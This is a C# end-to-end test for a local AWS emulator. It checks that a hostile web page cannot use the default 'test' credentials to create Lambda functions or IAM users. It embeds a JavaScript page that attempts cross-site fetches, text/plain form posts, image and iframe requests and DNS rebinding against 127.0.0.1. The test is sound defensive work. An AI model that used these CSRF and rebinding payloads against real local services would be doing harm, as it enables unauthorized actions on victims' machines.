using System.Text;
using System.Text.Json;
using Daybreak.Aws;
using Daybreak.Aws.Signing;
using Daybreak.Cloud.Hosting;
using Daybreak.EndToEnd.Stage;

namespace Daybreak.EndToEnd.WebPages;

/// <summary>
/// A web page in a real browser, whose author knows the default keys as everybody does, signs requests for the local AWS of whoever
/// looks at it.
/// </summary>
public sealed class HostilePageTests : IAsyncLifetime
{
    private const string Functions = "/2015-03-31/functions";
    private const string Name = "rebound.example";

    private CloudHost? _cloud;
    private HostileSite? _site;

    private CloudHost Cloud => _cloud!;

    private HostileSite Site => _site!;

    private string Local => $"127.0.0.1:{Site.Port}";

    private string Rebound => $"{Name}:{Site.Port}";

    public async ValueTask InitializeAsync()
    {
        _cloud = await CloudHost.StartAsync(new CloudOptions { Port = 0 });
        await FunctionDeployment.CreateRoleAsync(_cloud.Endpoint, "hostile");
        _site = new HostileSite(_cloud.Endpoint);
    }

    public async ValueTask DisposeAsync()
    {
        _site?.Dispose();
        if (_cloud is not null)
            await _cloud.DisposeAsync();
    }

    [Fact]
    public async Task Page_creates_nothing_by_fetch_form_image_frame_or_rebinding()
    {
        // 1. The page does everything that needs no consent.
        var (fetched, form) = (Function("by-fetch"), Function("by-form"));
        Site.Page = $$"""
            <script>
            const ended = (element, start) => new Promise(end => { element.onload = element.onerror = end; start(element); });
            const attacks = [
              () => fetch('{{Post(Local, fetched)}}', { method: 'POST', mode: 'no-cors', body: {{Script(fetched)}} }),
              () => fetch('{{Post(Local, fetched)}}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: {{Script(
                fetched
            )}} }),
              () => {
                const frame = document.createElement('iframe'), form = document.createElement('form'), field = document.createElement('input');
                frame.name = 'answer';
                document.body.append(frame, form);
                Object.assign(form, { method: 'post', enctype: 'text/plain', target: 'answer', action: '{{Post(Local, form + "\r\n")}}' });
                Object.assign(field, { name: {{Script(form[..form.IndexOf('=')])}}, value: {{Script(form[(form.IndexOf('=') + 1)..])}} });
                form.append(field);
                return ended(frame, () => form.submit());
              },
              () => ended(new Image(), image => image.src = '{{Get(Local, "by-image")}}'),
              () => ended(document.createElement('iframe'), frame => { frame.src = '{{Get(
                Local,
                "by-frame"
            )}}'; document.body.append(frame); }),
              () => fetch('{{Post(Rebound, fetched)}}', { method: 'POST', body: {{Script(fetched)}} }),
              () => fetch('{{Get(Rebound, "by-rebinding")}}').then(answer => answer.text()).then(text => read = text),
              () => fetch('http://{{Local}}/_daybreak/reset', { method: 'POST', mode: 'no-cors' }),
            ];
            let read;
            onload = async () => {
              for (const attack of attacks) await attack().catch(() => {});
              await fetch('/done?' + encodeURIComponent(read));
            };
            </script>
            <body></body>
            """;

        // 2. Every request reaches the door, and is refused.
        await using (var browser = new Browser($"http://{Rebound}/page", $"MAP {Name} 127.0.0.1"))
        {
            var read = await browser.WaitForAsync(Site.Done, TestContext.Current.CancellationToken);
            Assert.Contains($"not to the host '{Rebound}', which a web page could make its own.", read, StringComparison.Ordinal);
        }
        Assert.Equal(
            [
                $"POST {Functions} 403",
                $"OPTIONS {Functions} 403",
                $"POST {Functions} 403",
                "GET / 403",
                "GET / 403",
                $"POST {Functions} 403",
                "GET / 403",
                "POST /_daybreak/reset 403",
            ],
            Site.Exchanges.Select(exchange => $"{exchange.Line.Split('?')[0]} {exchange.Status}")
        );
        Assert.DoesNotContain(Site.Exchanges, exchange => exchange.Answer.Contains("Access-Control-", StringComparison.OrdinalIgnoreCase));
        Assert.Equal("", await NamesAsync());

        // 3. Only the browser's headers cause the refusal: the same requests from a program succeed.
        foreach (var exchange in Site.Exchanges)
        {
            var isSigned =
                exchange.Line.Contains("&X-Amz-Signature=", StringComparison.Ordinal)
                && !exchange.Line.StartsWith("OPTIONS", StringComparison.Ordinal);
            if (isSigned && exchange.Head.Contains($"Host: {Local}", StringComparison.Ordinal))
                await RepeatAsync(exchange);
        }
        Assert.Equal("by-fetch by-form by-frame by-image", await NamesAsync());
    }

    private static string Function(string name) =>
        JsonSerializer.Serialize(
            new
            {
                FunctionName = name,
                Runtime = "python3.13",
                Role = $"arn:aws:iam::{FunctionDeployment.AccountId}:role/hostile",
                Handler = "lambda_function.lambda_handler",
                Code = new { ZipFile = FunctionDeployment.Zip(LocalStage.Simple) },
                Description = "=", // where a form of plain text parts a field's name from its value
            },
            new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }
        );

    private static string Script(string text) => JsonSerializer.Serialize(text);

    private static string Post(string host, string body) => Signed("lambda", "POST", host, Functions, body);

    private static string Get(string host, string user) =>
        Signed("iam", "GET", host, $"/?Action=CreateUser&Version=2010-05-08&UserName={user}", "");

    private static string Signed(string service, string method, string host, string target, string body)
    {
        var context = new SigningContext(
            new AwsCredentials("test", "test"),
            FunctionDeployment.Region,
            service,
            TimeProvider.System.GetUtcNow()
        );
        var head = new RequestHead(method, target, new[] { new HttpField("Host", host) });
        return $"http://{host}{SigV4RequestSigner.Presign(head, Encoding.UTF8.GetBytes(body), context, 600).Request.Target}";
    }

    /// <summary>Names of all functions and users.</summary>
    private async Task<string> NamesAsync()
    {
        var functions = await AwsCli.RunAsync(
            Cloud.Endpoint,
            "lambda",
            "list-functions",
            "--query",
            "Functions[].FunctionName",
            "--output",
            "json"
        );
        var users = await AwsCli.RunAsync(Cloud.Endpoint, "iam", "list-users", "--query", "Users[].UserName", "--output", "json");
        return string.Join(
            ' ',
            new[] { functions, users }.SelectMany(list => JsonSerializer.Deserialize<string[]>(list)!).Order(StringComparer.Ordinal)
        );
    }

    private async Task RepeatAsync(HostileSite.Exchange exchange)
    {
        using var http = new HttpClient();
        var line = exchange.Line.Split(' ');
        using var request = new HttpRequestMessage(new HttpMethod(line[0]), new Uri(Cloud.Endpoint, line[1]));
        request.Headers.Host = Local;
        if (exchange.Body.Length > 0)
            request.Content = new StringContent(exchange.Body, Encoding.UTF8, "text/plain");
        using var response = await http.SendAsync(request, TestContext.Current.CancellationToken);
        Assert.True(response.IsSuccessStatusCode, await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
    }
}
